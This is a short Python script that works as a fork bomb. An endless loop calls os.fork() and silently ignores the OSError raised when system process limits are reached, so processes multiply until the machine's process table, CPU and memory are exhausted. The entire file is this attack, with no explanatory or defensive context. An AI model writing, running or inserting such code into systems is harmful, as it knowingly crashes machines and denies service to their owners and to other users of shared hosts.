"""Forks without end, and does not care for refusals."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
